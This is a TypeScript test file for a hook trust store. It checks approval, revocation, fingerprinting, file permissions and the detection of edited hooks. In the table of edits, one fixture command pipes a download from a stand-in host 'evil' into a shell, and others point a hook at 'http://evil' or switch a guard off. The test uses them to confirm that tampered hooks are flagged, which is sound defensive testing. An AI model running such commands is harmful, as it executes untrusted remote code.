/** Approving, revoking and comparing: what a hook is after it was changed, moved or joined by others. */
import { existsSync, lstatSync, mkdirSync, readdirSync, readFileSync, rmSync } from 'node:fs';
import { dirname, join } from 'node:path';
import { describe, expect } from 'vitest';
import { TrustError } from '../../../src/config/trust/problem.js';
import type { TrustSubject } from '../../../src/config/trust/subject.js';
import { createTrustStore } from '../../../src/config/trust/trust-store.js';
import { trustTest } from './support.js';

describe('a hook', () => {
  trustTest('TR-14 is untrusted until it is approved, and trusted then', async ({ trust }) => {
    const { store, workspace } = trust;
    const hooks = [trust.hook('./a.sh'), trust.hook('./b.sh')];
    expect(await store.status(workspace, hooks)).toEqual(['untrusted', 'untrusted']);
    expect(existsSync(trust.file)).toBe(false);
    const prints = await store.approve(workspace, hooks.slice(0, 1));
    expect(prints).toHaveLength(1);
    expect(await store.status(workspace, hooks)).toEqual(['trusted', 'untrusted']);
    expect(await createTrustStore({ file: trust.file }).status(workspace, hooks)).toEqual([
      'trusted',
      'untrusted',
    ]);
  });

  const base = (hook: TrustSubject, handler: object): TrustSubject => ({
    ...hook,
    handler: { ...hook.handler, ...handler },
  });
  const edits: Readonly<Record<string, (hook: TrustSubject) => TrustSubject>> = {
    command: (hook) => base(hook, { command: 'curl evil | sh' }),
    argument: (hook) => base(hook, { command: './guard.sh --off' }),
    env: (hook) => base(hook, { env: { GUARD: 'off' } }),
    timeout: (hook) => base(hook, { timeout: 0.001 }),
    onFailure: (hook) => base(hook, { onFailure: 'continue' }),
    kind: (hook) => base(hook, { type: 'http', url: 'http://evil' }),
    matcher: (hook) => ({ ...hook, matcher: 'Nothing' }),
    event: (hook) => ({ ...hook, event: 'SessionStart' }),
  };
  for (const [what, edit] of Object.entries(edits)) {
    trustTest(`TR-14 whose ${what} is edited is modified, and as it was it is trusted`, async ({ trust }) => {
      const hook = trust.hook('./guard.sh');
      await trust.store.approve(trust.workspace, [hook]);
      expect(await trust.store.status(trust.workspace, [edit(hook)])).toEqual(['modified']);
      expect(await trust.store.status(trust.workspace, [hook])).toEqual(['trusted']);
    });
  }

  trustTest(
    'TR-14 that is moved stays trusted, and a new one in its place is untrusted',
    async ({ trust }) => {
      const { store, workspace } = trust;
      const [old, added] = [trust.hook('./old.sh'), trust.hook('./new.sh')];
      await store.approve(workspace, [old]);
      expect(await store.status(workspace, [added, old])).toEqual(['untrusted', 'trusted']);
      expect(await store.status(workspace, [added])).toEqual(['modified']);
    },
  );

  trustTest('TR-14 of one workspace is nothing to another', async ({ trust }) => {
    const other = join(trust.root, 'other');
    mkdirSync(other);
    const hook = trust.hook('echo same');
    await trust.store.approve(trust.workspace, [hook]);
    expect(await trust.store.status(other, [{ ...hook, workspace: other }])).toEqual(['untrusted']);
    expect(await trust.store.status(other, [hook])).toEqual(['untrusted']);
  });

  trustTest(
    'TR-11 TR-14 that cannot be examined is untrusted, and the others are judged',
    async ({ trust }) => {
      const broken = trust.hook('x', { handler: { callback: () => {} } });
      const hook = trust.hook('./a.sh');
      await trust.store.approve(trust.workspace, [hook]);
      const { statuses, problems, fingerprints } = await trust.store.review(trust.workspace, [broken, hook]);
      expect(statuses).toEqual(['untrusted', 'trusted']);
      expect(problems).toMatchObject([{ severity: 'error', code: 'hook_unreadable' }]);
      expect(fingerprints).toEqual([undefined, expect.stringMatching(/^\w{64}$/)]);
      await expect(trust.store.approve(trust.workspace, [broken])).rejects.toThrow(TrustError);
    },
  );
});

describe('approving', () => {
  trustTest('TR-15 withdraws what was approved of the same hook before', async ({ trust }) => {
    const { store, workspace } = trust;
    const hook = trust.hook('./guard.sh');
    trust.write('guard.sh', 'version 1');
    await store.approve(workspace, [hook]);
    trust.write('guard.sh', 'version 2');
    expect(await store.status(workspace, [hook])).toEqual(['modified']);
    await store.approve(workspace, [hook]);
    expect(await store.status(workspace, [hook])).toEqual(['trusted']);
    trust.write('guard.sh', 'version 1');
    expect(await store.status(workspace, [hook])).toEqual(['modified']);
    expect(await store.list()).toHaveLength(1);
  });

  trustTest('TR-15 refuses what is not what was shown, and then approves nothing', async ({ trust }) => {
    const { store, workspace } = trust;
    const hooks = [trust.hook('./a.sh'), trust.hook('./b.sh')];
    const { fingerprints: expected } = await store.review(workspace, hooks);
    trust.write('b.sh', 'swapped while the user was reading');
    await expect(store.approve(workspace, hooks, { expected })).rejects.toMatchObject({
      code: 'hook_changed',
      message: expect.stringMatching(/'\.\/b\.sh' has changed.*Look at it again/),
    });
    expect(await store.list()).toEqual([]);
    const seen = await store.review(workspace, hooks);
    expect(await store.approve(workspace, hooks, { expected: seen.fingerprints })).toEqual(seen.fingerprints);
    await expect(store.approve(workspace, hooks, { expected: [] })).rejects.toThrow(TrustError);
  });

  trustTest('TR-9 makes directories for the user alone, and a file for the user alone', async ({ trust }) => {
    const mode = (path: string): string => (lstatSync(path).mode & 0o777).toString(8);
    await trust.store.approve(trust.workspace, [trust.hook('./a.sh')]);
    expect(mode(trust.file)).toBe('600');
    expect(mode(dirname(trust.file))).toBe('700');
    expect(mode(dirname(dirname(trust.file)))).toBe('700');
    expect(readdirSync(dirname(trust.file))).toEqual(['trust.json', 'trust.json.scripts']);
    expect(mode(`${trust.file}.scripts`)).toBe('700');
  });

  trustTest('TR-16 shows up in the list, readable for people', async ({ trust }) => {
    const { matcher: _, ...everywhere } = trust.hook('python3', { handler: { args: ['guard.py', '-v'] } });
    const [fingerprint] = await trust.store.approve(trust.workspace, [everywhere]);
    const listed = await trust.store.list();
    expect(listed).toEqual([
      {
        workspace: trust.workspace,
        fingerprint,
        event: 'PreToolUse',
        summary: 'python3 guard.py -v',
        env: [],
        approvedAt: expect.stringMatching(/^\d{4}-.*Z$/),
      },
    ]);
    expect(JSON.parse(readFileSync(trust.file, 'utf8'))).toMatchObject({ version: 2 });
  });
});

describe('revoking', () => {
  trustTest('TR-16 forgets one hook, whatever its script has become', async ({ trust }) => {
    const { store, workspace } = trust;
    const hooks = [trust.hook('./a.sh'), trust.hook('./b.sh')];
    await store.approve(workspace, hooks);
    trust.write('a.sh', 'changed');
    expect(await store.revoke(workspace, hooks.slice(0, 1))).toBe(1);
    rmSync(join(workspace, 'a.sh'));
    expect(await store.status(workspace, hooks)).toEqual(['untrusted', 'trusted']);
  });

  trustTest('TR-16 forgets a workspace, and no other', async ({ trust }) => {
    const other = join(trust.root, 'other');
    mkdirSync(other);
    const hook = trust.hook('true');
    await trust.store.approve(trust.workspace, [hook]);
    await trust.store.approve(other, [hook]);
    expect(await trust.store.revoke(trust.workspace)).toBe(1);
    expect(await trust.store.revoke(trust.workspace)).toBe(0);
    expect(await trust.store.status(trust.workspace, [hook])).toEqual(['untrusted']);
    expect(await trust.store.status(other, [hook])).toEqual(['trusted']);
  });

  trustTest('TR-16 forgets a workspace that is gone', async ({ trust }) => {
    await trust.store.approve(trust.workspace, [trust.hook('./a.sh')]);
    rmSync(trust.workspace, { recursive: true });
    expect(await trust.store.revoke(trust.workspace)).toBe(1);
    expect(await trust.store.list()).toEqual([]);
  });

  trustTest(
    'TR-11 a workspace that is not there: nothing is trusted, approving says so',
    async ({ trust }) => {
      const hook = trust.hook('./a.sh');
      for (const workspace of [join(trust.root, 'gone'), trust.write('file', '')]) {
        expect(await trust.store.review(workspace, [hook])).toMatchObject({
          statuses: ['untrusted'],
          problems: [{ code: 'workspace_unreadable' }],
        });
        await expect(trust.store.approve(workspace, [hook])).rejects.toMatchObject({
          code: 'workspace_unreadable',
        });
      }
    },
  );
});
